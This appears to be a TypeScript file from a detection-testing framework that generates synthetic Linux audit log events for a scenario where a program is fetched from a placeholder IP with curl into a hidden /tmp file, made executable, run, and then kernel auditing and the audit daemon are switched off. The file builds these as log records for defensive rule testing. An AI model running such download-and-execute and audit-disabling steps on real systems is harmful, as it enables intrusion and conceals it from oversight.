import { HOSTS, linuxAuditd } from '../systems/linux.ts'
import { type Scene, type Story, somebody } from './story.ts'

const FIRST_UID = 1000

/** A program is fetched, run, and the kernel's audit log switched off before it shows its purpose. */
export const linuxDroppedProgram: Story = {
  name: 'linux-dropped-program',
  rules: [
    'Linux Audit Daemon Stopped and Not Started Again',
    'Linux Auditing Switched Off',
    'Foreign Program Fetched and Run',
  ],
  tell(random) {
    const who = { host: random.pick(HOSTS), uid: FIRST_UID + somebody(random, 'engineer').index }
    const file = `/tmp/.${random.hex(6)}`
    const run = (...args: string[]): Scene =>
      linuxAuditd({
        ...who,
        type: 'EXECVE',
        fields: { argc: String(args.length), ...Object.fromEntries(args.map((arg, i) => [`a${i}`, arg])) },
      })
    return [
      run('/usr/bin/curl', '-so', file, 'http://203.0.113.250/x'),
      run('/usr/bin/chmod', '+x', file),
      run(file),
      linuxAuditd({ ...who, type: 'CONFIG_CHANGE', fields: { op: 'set', audit_enabled: '0', old: '1', res: '1' } }),
      linuxAuditd({ ...who, type: 'DAEMON_END', fields: { op: 'terminate', res: 'success' } }),
    ]
  },
}
